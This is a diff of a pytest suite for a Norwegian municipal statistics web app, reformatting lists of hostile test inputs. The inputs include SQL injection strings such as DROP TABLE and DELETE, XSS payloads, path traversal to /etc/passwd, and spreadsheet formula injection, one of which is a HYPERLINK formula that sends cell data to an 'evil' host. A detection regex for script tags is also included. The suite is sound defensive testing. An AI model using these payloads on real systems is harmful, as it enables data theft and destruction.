@@ -30,35 +30,113 @@ APP = str(ROOT / "app.py")
 
 HOSTILE = [
     # unknown and malformed municipality numbers
-    "0000", "9999", "1", "18", "183", "18355", "01835", "1835.0", "1,835", "+1835", "-1835", "0x72B", "1e3",
-    "١٨٣٥", "１８３５", "18 35", "1835a", "x1835",
+    "0000",
+    "9999",
+    "1",
+    "18",
+    "183",
+    "18355",
+    "01835",
+    "1835.0",
+    "1,835",
+    "+1835",
+    "-1835",
+    "0x72B",
+    "1e3",
+    "١٨٣٥",
+    "１８３５",
+    "18 35",
+    "1835a",
+    "x1835",
     # SQL fragments
-    "1835' OR 1=1--", "' OR '1'='1", '1835"; DROP TABLE municipality; --', "1; SELECT * FROM dataset",
-    "1835 UNION SELECT name FROM sqlite_master", "'; DELETE FROM applications; --",
+    "1835' OR 1=1--",
+    "' OR '1'='1",
+    '1835"; DROP TABLE municipality; --',
+    "1; SELECT * FROM dataset",
+    "1835 UNION SELECT name FROM sqlite_master",
+    "'; DELETE FROM applications; --",
     # HTML / script / Markdown
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>',
-    "javascript:alert(1)", "[klikk](javascript:alert(1))", "<iframe src=//evil>", "**fet** _kursiv_ `kode`",
-    "$$\\frac{1}{0}$$", "<b>fet</b>", "&lt;script&gt;",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '"><svg onload=alert(1)>',
+    "javascript:alert(1)",
+    "[klikk](javascript:alert(1))",
+    "<iframe src=//evil>",
+    "**fet** _kursiv_ `kode`",
+    "$$\\frac{1}{0}$$",
+    "<b>fet</b>",
+    "&lt;script&gt;",
     # very long strings
-    "a" * 10_000, "9" * 5_000, "1835," * 2_000,
+    "a" * 10_000,
+    "9" * 5_000,
+    "1835," * 2_000,
     # unicode, RTL, zero-width, emoji
-    "\u202e5381", "\u200b1835", "1835\u200b", "\ufeff1835", "🏔️🦌", "Træna ÆØÅ æøå", "𝟏𝟖𝟑𝟓", "ＫＯＭＭＵＮＥ",
+    "\u202e5381",
+    "\u200b1835",
+    "1835\u200b",
+    "\ufeff1835",
+    "🏔️🦌",
+    "Træna ÆØÅ æøå",
+    "𝟏𝟖𝟑𝟓",
+    "ＫＯＭＭＵＮＥ",
     # negative and huge numbers, special floats
-    "-1", "0", "-99999999999999999999", "99999999999999999999999", "1e308", "-1e308", "NaN", "inf", "-inf",
+    "-1",
+    "0",
+    "-99999999999999999999",
+    "99999999999999999999999",
+    "1e308",
+    "-1e308",
+    "NaN",
+    "inf",
+    "-inf",
     # NUL-like characters and encodings
-    "\x00", "1835\x00", "%00", "%2500", "\x1b[31m", "\r\n", "\t",
+    "\x00",
+    "1835\x00",
+    "%00",
+    "%2500",
+    "\x1b[31m",
+    "\r\n",
+    "\t",
     # path traversal and odd literals
-    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "%2e%2e%2f%2e%2e%2f",
-    "None", "null", "undefined", "true", "[]", "{}", "${7*7}", "{{7*7}}", "%s%s%s%n", "   ",
+    "../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "/etc/passwd",
+    "file:///etc/passwd",
+    "%2e%2e%2f%2e%2e%2f",
+    "None",
+    "null",
+    "undefined",
+    "true",
+    "[]",
+    "{}",
+    "${7*7}",
+    "{{7*7}}",
+    "%s%s%s%n",
+    "   ",
     # issue 17: digits int() refuses («²» passes str.isdigit), a number Streamlit's binding made infinite
-    "²", "³", "١٢", "9" * 400, "1e999",
+    "²",
+    "³",
+    "١٢",
+    "9" * 400,
+    "1e999",
     # control characters (vertical tab is Word's Shift+Enter; Word's XML holds none of them)
-    "\x0b", "Linje\x0bto", "18\x0b35", "\x0c\x07\x08\x1f\x7f\x85\x9b", "tekst\x00med\x00nul",
+    "\x0b",
+    "Linje\x0bto",
+    "18\x0b35",
+    "\x0c\x07\x08\x1f\x7f\x85\x9b",
+    "tekst\x00med\x00nul",
     # bidi overrides, embeddings, isolates and marks
-    "\u202egnirts\u202c", "\u2066\u2067\u2068isolert\u2069", "\u202a\u202b\u202d\u200e\u200f\u061c",
+    "\u202egnirts\u202c",
+    "\u2066\u2067\u2068isolert\u2069",
+    "\u202a\u202b\u202d\u200e\u200f\u061c",
     # formula strings (CSV/Excel injection)
-    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil/?q="&A1,"Klikk")', "+1+1", "-2+3", "@SUM(A1:A9)",
-    "\t=1+1", "\r=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil/?q="&A1,"Klikk")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
 ]
 assert len(HOSTILE) >= 50
 MEGABYTE = "æ" * 1_000_000  # a 1 MB string: form fields and import paths (not URLs: servers cap those)
@@ -69,10 +147,14 @@ MEGABYTE = "æ" * 1_000_000  # a 1 MB string: form fields and import paths (not 
 PARAMS = {
     "pages/oversikt.py": {"parsed": ["fylke", "grense", "kartmal"], "bound": []},  # bound, and checked first
     "pages/kommune.py": {"parsed": ["kommune", "scenario"], "bound": ["del"]},  # scenario: «Framskriving»
-    "pages/sammenlign.py": {"parsed": ["kommuner", "indikatorer", "visning", "basisaar", "vekter", "lik",
-                                       "utvalg", "kommune"], "bound": []},
-    "pages/samlingsmodus.py": {"parsed": ["kommuner", "indikatorer", "visning", "basisaar", "lysbilde",
-                                          "kommune"], "bound": []},
+    "pages/sammenlign.py": {
+        "parsed": ["kommuner", "indikatorer", "visning", "basisaar", "vekter", "lik", "utvalg", "kommune"],
+        "bound": [],
+    },
+    "pages/samlingsmodus.py": {
+        "parsed": ["kommuner", "indikatorer", "visning", "basisaar", "lysbilde", "kommune"],
+        "bound": [],
+    },
     "pages/plan.py": {"parsed": ["kommune"], "bound": []},
     "pages/soknader.py": {"parsed": ["kommune"], "bound": []},
     "pages/om_data.py": {"parsed": [], "bound": []},
@@ -82,7 +164,9 @@ EXTRA_PASSES = {"pages/samlingsmodus.py": {"parsed": ["sett"], "bound": []}}
 
 # what must never be stored: control characters but tab/newline, bidi controls, BOM
 UNSAFE_STORED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
-DANGEROUS = re.compile(r"<\s*script|onerror\s*=|onload\s*=|javascript:|<\s*iframe|<\s*img|<\s*svg", re.IGNORECASE)
+DANGEROUS = re.compile(
+    r"<\s*script|onerror\s*=|onload\s*=|javascript:|<\s*iframe|<\s*img|<\s*svg", re.IGNORECASE
+)
 
 
 @pytest.fixture(scope="module")
@@ -173,8 +257,12 @@ SECTION_MODULES = {"overview", "compare_view", "projection_view", "slideshow"}
 
 def test_the_table_covers_every_parameter():
     """Every query parameter a page reads appears in PARAMS (read from the page files)."""
-    patterns = [r"params\.get\(\s*\"(\w+)\"", r"query_params\.get\(\s*\"(\w+)\"", r"query_params\[\s*\"(\w+)\"\s*\]",
-                r"key=\"(\w+)\",[^)]*?bind=\"query-params\""]
+    patterns = [
+        r"params\.get\(\s*\"(\w+)\"",
+        r"query_params\.get\(\s*\"(\w+)\"",
+        r"query_params\[\s*\"(\w+)\"\s*\]",
+        r"key=\"(\w+)\",[^)]*?bind=\"query-params\"",
+    ]
     for page, table in PARAMS.items():
         source = (ROOT / page).read_text(encoding="utf-8")
         # a page's sections in nokkeltall/ui/<module>.py («from nokkeltall.ui import overview») count as
@@ -186,7 +274,9 @@ def test_the_table_covers_every_parameter():
         if "municipality_picker(" in source or "KOMMUNE_PARAM" in source:
             read.add("kommune")
         read.discard("lysbilde") if page != "pages/samlingsmodus.py" else None
-        covered = set(table["parsed"]) | set(table["bound"]) | set(EXTRA_PASSES.get(page, {}).get("parsed", []))
+        covered = (
+            set(table["parsed"]) | set(table["bound"]) | set(EXTRA_PASSES.get(page, {}).get("parsed", []))
+        )
         assert read <= covered, f"{page} reads {sorted(read - covered)}, not in the hostile-input table"
 
 
@@ -194,12 +284,28 @@ def test_the_table_covers_every_parameter():
 
 TODAY = date(2026, 11, 26)
 GOOD_APPLICATION = {
-    "municipality_code": "1835", "round_year": 2026, "received_date": "2026-11-01", "status": "mottatt",
-    "contact_name": "Kari Nordmann", "contact_email": "kari@trana.kommune.no", "samfunnsdel_year": "2019",
-    "progress_plan": "Planstrategi våren 2027.", "has_fact_base": True, "fact_base_description": "Kommunebarometeret",
-    "planning_staff_persons": 1, "planning_staff_percent": 50.0, "note": "",
+    "municipality_code": "1835",
+    "round_year": 2026,
+    "received_date": "2026-11-01",
+    "status": "mottatt",
+    "contact_name": "Kari Nordmann",
+    "contact_email": "kari@trana.kommune.no",
+    "samfunnsdel_year": "2019",
+    "progress_plan": "Planstrategi våren 2027.",
+    "has_fact_base": True,
+    "fact_base_description": "Kommunebarometeret",
+    "planning_staff_persons": 1,
+    "planning_staff_percent": 50.0,
+    "note": "",
 }
-TEXT_FIELDS = ["contact_name", "contact_email", "samfunnsdel_year", "progress_plan", "fact_base_description", "note"]
+TEXT_FIELDS = [
+    "contact_name",
+    "contact_email",
+    "samfunnsdel_year",
+    "progress_plan",
+    "fact_base_description",
+    "note",
+]
 NUMBER_FIELDS = ["planning_staff_persons", "planning_staff_percent", "round_year"]
 
 
@@ -237,8 +343,11 @@ def test_application_form_fields(data_dir):
         if _outcome(lambda c=change: store.update_application(saved["id"], c, changed_by="Test")) is None:
             failures.append(f"{field}: 1 MB accepted")
     stored = store.get_application(saved["id"])
-    failures += [f"{field} stored {stored[field][:30]!r}" for field in TEXT_FIELDS
-                 if isinstance(stored[field], str) and UNSAFE_STORED.search(stored[field])]
+    failures += [
+        f"{field} stored {stored[field][:30]!r}"
+        for field in TEXT_FIELDS
+        if isinstance(stored[field], str) and UNSAFE_STORED.search(stored[field])
+    ]
     assert not failures, "\n".join(failures[:40])
     # whatever was saved shows without exception or injected HTML on the application page
     at = page_app("pages/soknader.py")
@@ -257,21 +366,64 @@ def test_plan_and_milestone_fields_then_the_pages_that_show_them(data_dir):
     failures = []
     for number, value in enumerate(HOSTILE):
         for field in ("adopted", "period", "source", "note"):
-            _outcome(store.add_plan_entry,
-                     {"municipality_code": "1835", "plan_type": "samfunnsdel", "status": "under_arbeid",
-                      "adopted": "", "period": "", "source": "Saksnr. 1", "note": "", field: value},
-                     changed_by="Test")
-        _outcome(store.save_milestones, "1835", [
-            {"plan_type": "planstrategi", "title": value, "start_date": "2027-01-15", "end_date": None,
-             "status": "planlagt", "note": value},
-            {"plan_type": "samfunnsdel", "title": "Oppstart", "start_date": value, "end_date": value,
-             "status": value, "note": ""},
-        ], changed_by="Test")
-        _outcome(store.save_milestones, "1835", [
-            {"plan_type": "planstrategi", "title": value or "x", "start_date": "2027-01-15", "end_date": None,
-             "status": "planlagt", "note": value}], changed_by="Test")
-        _outcome(deck_store.save, value[:80] + f" {number}", [
-            {"indicator_id": "population", "codes": ["1835", "5043"], "view": "linjer", "base_year": None}], value)
+            _outcome(
+                store.add_plan_entry,
+                {
+                    "municipality_code": "1835",
+                    "plan_type": "samfunnsdel",
+                    "status": "under_arbeid",
+                    "adopted": "",
+                    "period": "",
+                    "source": "Saksnr. 1",
+                    "note": "",
+                    field: value,
+                },
+                changed_by="Test",
+            )
+        _outcome(
+            store.save_milestones,
+            "1835",
+            [
+                {
+                    "plan_type": "planstrategi",
+                    "title": value,
+                    "start_date": "2027-01-15",
+                    "end_date": None,
+                    "status": "planlagt",
+                    "note": value,
+                },
+                {
+                    "plan_type": "samfunnsdel",
+                    "title": "Oppstart",
+                    "start_date": value,
+                    "end_date": value,
+                    "status": value,
+                    "note": "",
+                },
+            ],
+            changed_by="Test",
+        )
+        _outcome(
+            store.save_milestones,
+            "1835",
+            [
+                {
+                    "plan_type": "planstrategi",
+                    "title": value or "x",
+                    "start_date": "2027-01-15",
+                    "end_date": None,
+                    "status": "planlagt",
+                    "note": value,
+                }
+            ],
+            changed_by="Test",
+        )
+        _outcome(
+            deck_store.save,
+            value[:80] + f" {number}",
+            [{"indicator_id": "population", "codes": ["1835", "5043"], "view": "linjer", "base_year": None}],
+            value,
+        )
         if number % 10 == 9 or number == len(HOSTILE) - 1:  # render every tenth value (rows accumulate)
             plan_at = run_with(plan_at, {"kommune": "1835"})
             failures += [f"plan page after {value[:20]!r}: {p}" for p in problems_on(plan_at)]
@@ -289,10 +441,28 @@ def test_invisible_characters_are_not_echoed(data_dir):
     assert any("Fant ingen kommune med nummer «\\<script\\>" in w.value for w in at.warning)
 
 
-FORM_VALUES = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "1835' OR 1=1--", "a" * 10_000,
-               "9" * 5_000, "-99999999999999999999", "1e308", "NaN", "\u202e5381", "\x00", "%00", "🏔️🦌",
-               "../../etc/passwd", "[klikk](javascript:alert(1))", "   ",
-               "Linje\x0bto", "\u202egnirts\u202c", "=cmd|' /C calc'!A0", "@SUM(A1)", MEGABYTE]
+FORM_VALUES = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "1835' OR 1=1--",
+    "a" * 10_000,
+    "9" * 5_000,
+    "-99999999999999999999",
+    "1e308",
+    "NaN",
+    "\u202e5381",
+    "\x00",
+    "%00",
+    "🏔️🦌",
+    "../../etc/passwd",
+    "[klikk](javascript:alert(1))",
+    "   ",
+    "Linje\x0bto",
+    "\u202egnirts\u202c",
+    "=cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    MEGABYTE,
+]
 
 
 def test_application_and_plan_forms_in_the_page(data_dir):
@@ -313,7 +483,9 @@ def test_application_and_plan_forms_in_the_page(data_dir):
         if not (at.error or at.success):
             failures.append(f"søknad {value[:20]!r}: neither saved nor refused with a message")
     at = page_app("pages/plan.py")
-    at.session_state["plan_entry_open"] = True  # the plan status form is drawn only while its expander is open
+    at.session_state["plan_entry_open"] = (
+        True  # the plan status form is drawn only while its expander is open
+    )
     for value in FORM_VALUES:
         at = run_with(at, {"kommune": "1836"})
         for key in ("plan_entry_adopted", "plan_entry_period", "plan_entry_source", "plan_entry_name"):
@@ -338,13 +510,37 @@ def test_report_html_escapes_what_users_entered(data_dir, tmp_path):
     from nokkeltall import report
 
     store = UserStore(tmp_path / "brukerdata.sqlite", today=TODAY)
-    values = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>',
-              "javascript:alert(1)", "<iframe src=//evil>")
+    values = (
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        '"><svg onload=alert(1)>',
+        "javascript:alert(1)",
+        "<iframe src=//evil>",
+    )
     for value in values:
-        store.add_plan_entry({"municipality_code": "1835", "plan_type": "samfunnsdel", "status": "vedtatt",
-                              "adopted": "2020", "period": value, "source": value, "note": value}, changed_by=value)
-        store.add_milestone({"municipality_code": "1835", "plan_type": "planstrategi", "title": value,
-                             "start_date": "2027-01-15", "status": "planlagt", "note": value}, changed_by=value)
+        store.add_plan_entry(
+            {
+                "municipality_code": "1835",
+                "plan_type": "samfunnsdel",
+                "status": "vedtatt",
+                "adopted": "2020",
+                "period": value,
+                "source": value,
+                "note": value,
+            },
+            changed_by=value,
+        )
+        store.add_milestone(
+            {
+                "municipality_code": "1835",
+                "plan_type": "planstrategi",
+                "title": value,
+                "start_date": "2027-01-15",
+                "status": "planlagt",
+                "note": value,
+            },
+            changed_by=value,
+        )
     with duckdb.connect(str(data_dir / "nokkeltall.duckdb"), read_only=True) as con:
         page = report.render_bytes(con, "1835", "html", charts=False, store=store).decode("utf-8")
     # the newest entry is shown; entries saved within one second tie, so any of them may be the one
@@ -356,10 +552,19 @@ def test_report_html_escapes_what_users_entered(data_dir, tmp_path):
 
 # --- issue 17: the JSON restore and the spreadsheet import carry the same values -------------------------
 
-RESTORE_TEXT_FIELDS = {"applications": ["progress_plan", "fact_base_description", "contact_name", "note",
-                                        "entered_by", "updated_by"],
-                       "plan_status_entries": ["period", "source", "note"],
-                       "milestones": ["title", "note"], "decks": ["name", "saved_by"]}
+RESTORE_TEXT_FIELDS = {
+    "applications": [
+        "progress_plan",
+        "fact_base_description",
+        "contact_name",
+        "note",
+        "entered_by",
+        "updated_by",
+    ],
+    "plan_status_entries": ["period", "source", "note"],
+    "milestones": ["title", "note"],
+    "decks": ["name", "saved_by"],
+}
 
 
 def test_restore_with_hostile_values_in_every_text_field(data_dir, tmp_path):
@@ -367,12 +572,31 @@ def test_restore_with_hostile_values_in_every_text_field(data_dir, tmp_path):
     messages or restored cleaned, never an exception; then the pages showing the data stay clean."""
     source = UserStore(tmp_path / "source.sqlite", today=TODAY)
     source.add_application(GOOD_APPLICATION, changed_by="Test")
-    source.add_plan_entry({"municipality_code": "1835", "plan_type": "samfunnsdel", "status": "vedtatt",
-                           "adopted": "2020", "source": "Sak 1"}, changed_by="Test")
-    source.add_milestone({"municipality_code": "1835", "plan_type": "planstrategi", "title": "Oppstart",
-                          "start_date": "2027-01-15", "status": "planlagt"}, changed_by="Test")
-    DeckStore(source).save("Sett", [{"indicator_id": "population", "codes": ["1835", "5043"], "view": "linjer",
-                                     "base_year": None}], "Test")
+    source.add_plan_entry(
+        {
+            "municipality_code": "1835",
+            "plan_type": "samfunnsdel",
+            "status": "vedtatt",
+            "adopted": "2020",
+            "source": "Sak 1",
+        },
+        changed_by="Test",
+    )
+    source.add_milestone(
+        {
+            "municipality_code": "1835",
+            "plan_type": "planstrategi",
+            "title": "Oppstart",
+            "start_date": "2027-01-15",
+            "status": "planlagt",
+        },
+        changed_by="Test",
+    )
+    DeckStore(source).save(
+        "Sett",
+        [{"indicator_id": "population", "codes": ["1835", "5043"], "view": "linjer", "base_year": None}],
+        "Test",
+    )
     backup = source.export_data()
     store = UserStore(data_dir / "brukerdata.sqlite", today=TODAY)
     failures, restored = [], 0
@@ -384,12 +608,18 @@ def test_restore_with_hostile_values_in_every_text_field(data_dir, tmp_path):
             if _outcome(lambda c=changed: store.import_json(json.dumps(c), restored_by="Test")) is None:
                 restored += 1
                 row = store.export_data()["tables"][table][0]
-                failures += [f"{table}.{field}={value[:20]!r} stored {row[field][:30]!r}" for field in fields
-                             if isinstance(row[field], str) and UNSAFE_STORED.search(row[field])]
+                failures += [
+                    f"{table}.{field}={value[:20]!r} stored {row[field][:30]!r}"
+                    for field in fields
+                    if isinstance(row[field], str) and UNSAFE_STORED.search(row[field])
+                ]
     assert restored, "the harmless values were restored"
     assert not failures, "\n".join(failures[:40])
-    for page, params in (("pages/soknader.py", {"kommune": "1835"}), ("pages/plan.py", {"kommune": "1835"}),
-                         ("pages/samlingsmodus.py", {})):
+    for page, params in (
+        ("pages/soknader.py", {"kommune": "1835"}),
+        ("pages/plan.py", {"kommune": "1835"}),
+        ("pages/samlingsmodus.py", {}),
+    ):
         at = run_with(page_app(page), params)
         assert problems_on(at) == [], page
 
@@ -406,10 +636,24 @@ def test_spreadsheet_import_with_hostile_values(tmp_path, monkeypatch, shipped_d
     path = tmp_path / "planstatus.csv"
     with open(path, "w", encoding="utf-8", newline="") as handle:
         writer = csv.writer(handle)
-        writer.writerow(["kommunenummer", "kommunenavn", "plantype", "periode", "vedtatt", "status", "kilde_url",
-                         "kilde_tittel", "hentet_fra", "merknad"])
+        writer.writerow(
+            [
+                "kommunenummer",
+                "kommunenavn",
+                "plantype",
+                "periode",
+                "vedtatt",
+                "status",
+                "kilde_url",
+                "kilde_tittel",
+                "hentet_fra",
+                "merknad",
+            ]
+        )
         for value in values:
-            writer.writerow(["1835", value, "samfunnsdel", value, value, "ukjent", value, value, value, value])
+            writer.writerow(
+                ["1835", value, "samfunnsdel", value, value, "ukjent", value, value, value, value]
+            )
     assert cli.main(["import", str(path)]) == 0
     frame = snapshot.load_dataset("plan_status_sources")
     for column in ("period", "adopted", "source_title", "note", "source_url"):
@@ -419,6 +663,8 @@ def test_spreadsheet_import_with_hostile_values(tmp_path, monkeypatch, shipped_d
     at = run_with(page_app("pages/plan.py"), {"kommune": "1835"})
     assert problems_on(at) == []
     nul = tmp_path / "nul.csv"
-    nul.write_text(path.read_text(encoding="utf-8").splitlines()[0] + "\n1835,a\x00b,samfunnsdel,2020\x00,,ukjent,,,,\n",
-                   encoding="utf-8")
+    nul.write_text(
+        path.read_text(encoding="utf-8").splitlines()[0] + "\n1835,a\x00b,samfunnsdel,2020\x00,,ukjent,,,,\n",
+        encoding="utf-8",
+    )
     assert cli.main(["import", str(nul)]) in (0, 2)
